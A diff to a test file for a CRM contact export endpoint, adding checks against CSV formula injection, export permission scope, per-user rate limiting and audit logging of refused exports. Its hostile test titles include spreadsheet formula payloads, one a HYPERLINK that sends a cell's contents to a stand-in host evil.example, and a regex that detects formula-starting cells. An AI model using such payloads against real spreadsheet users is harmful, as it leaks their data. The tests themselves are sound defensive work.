@@ -5,7 +5,7 @@ import { startHarness, json, type Harness } from '../support/harness.js';
 import { createUserWithToken } from '../support/identity.js';
 
 /** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
-function parseCsv(text: string): string[][] {
+function parseCsv(text: string, sep = ','): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
@@ -19,7 +19,7 @@ function parseCsv(text: string): string[][] {
       } else if (ch === '"') quoted = false;
       else cell += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === ',') {
+    else if (ch === sep) {
       row.push(cell);
       cell = '';
     } else if (ch === '\r' && text[i + 1] === '\n') {
@@ -46,8 +46,11 @@ const HOSTILE_TITLES = [
   '   =1+1',
   'Comma, "quoted" and ; semicolon',
   'مدیر فروش، «تهران»',
+  // A `;` or tab splits a cell where a spreadsheet's locale uses it as separator: the rest must not become a cell.
+  'Ali;=HYPERLINK(CHAR(104)&A1);x',
+  '\uff1d1+1',
 ];
-const FORMULA = /^[\s\u00a0]*[=+\-@\t\r]/;
+const FORMULA = /^[\s\u00a0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
 
 for (const dialect of await testDialects()) {
   describe(`record export (${dialect})`, () => {
@@ -123,6 +126,15 @@ for (const dialect of await testDialects()) {
       expect(res.body).not.toContain('export.0@example.com');
       expect(rows.map((r) => at(r, 'title'))).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
       expect(rows.map((r) => at(r, 'title'))).toContain('مدیر فروش، «تهران»');
+      expect(rows.map((r) => at(r, 'title'))).toContain("'\uff1d1+1");
+      // Every text cell is quoted, so no separator inside one can split it.
+      expect(res.body).toContain('"Ali;=HYPERLINK(CHAR(104)&A1);x"');
+      // Read as a spreadsheet whose locale separates by `;` or by tabs would: still no cell starts a formula.
+      for (const sep of [';', '\t']) {
+        for (const cell of parseCsv(res.body.slice(1), sep).flat()) {
+          expect(FORMULA.test(cell), `${JSON.stringify(sep)} ${cell}`).toBe(false);
+        }
+      }
       const event = events.at(-1);
       expect(event?.context.actorId).toBeTruthy();
       expect(event?.detail).toMatchObject({ object: 'contacts', format: 'csv', rows: list.items.length });
@@ -193,7 +205,8 @@ for (const dialect of await testDialects()) {
         },
       });
       expect(role.statusCode, role.body).toBe(201);
-      const u = await createUserWithToken(h, { roles: ['own-exporter'] });
+      // It also reads every contact (read-only): an export reaches only what both its read and export grants reach.
+      const u = await createUserWithToken(h, { roles: ['read-only', 'own-exporter'] });
       // The exporter owns two contacts, given to it by the admin; nobody else's show.
       for (const n of [1, 2]) {
         const c = await post('/contacts', admin, {
@@ -208,6 +221,8 @@ for (const dialect of await testDialects()) {
       const [header, ...rows] = parseCsv(res.body.slice(1));
       expect(rows).toHaveLength(2);
       expect(rows.every((r) => r[1] === u.userId)).toBe(true);
+      const listed = json(await get('/contacts?limit=200', u.headers)) as { items: unknown[] };
+      expect(listed.items.length).toBeGreaterThan(2);
       for (const hidden of ['email', 'phone', 'nationalId', 'birthDate', 'address', 'paymentCard']) {
         expect(header).not.toContain(hidden);
       }
@@ -215,6 +230,17 @@ for (const dialect of await testDialects()) {
       // Filtering an export by a field the exporter cannot see is refused like the list (no oracle).
       expect((await get('/contacts/export?email=mine.1%40example.com', u.headers)).statusCode).toBe(403);
       void repId;
+    });
+
+    it('allows a few exports per user in ten minutes, then answers 429 with Retry-After', async () => {
+      const busy = (await createUserWithToken(h, { roles: ['sales-manager'] })).headers;
+      for (let i = 0; i < 10; i++) expect((await get('/contacts/export?format=ndjson', busy)).statusCode).toBe(200);
+      const over = await get('/contacts/export?format=ndjson', busy);
+      expect(over.statusCode, over.body).toBe(429);
+      expect((json(over) as { code: string }).code).toBe('SEPAR_ERR_RATE_LIMITED');
+      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
+      // Another user is not affected.
+      expect((await get('/contacts/export?format=ndjson', admin)).statusCode).toBe(200);
     });
 
     it('refuses an export larger than its limit instead of sending part of it', async () => {
@@ -232,6 +258,8 @@ for (const dialect of await testDialects()) {
       await expect(h.rt.crm.records.contacts.export(actor, {}, 'csv', 3)).rejects.toMatchObject({
         code: 'SEPAR_ERR_EXPORT_TOO_LARGE',
       });
+      // The refusal is evidence too: the pages read before it left their read entries.
+      expect(events.at(-1)).toMatchObject({ outcome: 'failure', detail: { object: 'contacts', format: 'csv' } });
       const all = await h.rt.crm.records.contacts.export(actor, {}, 'ndjson', 1000);
       expect(all.rows).toBeGreaterThan(3);
     });
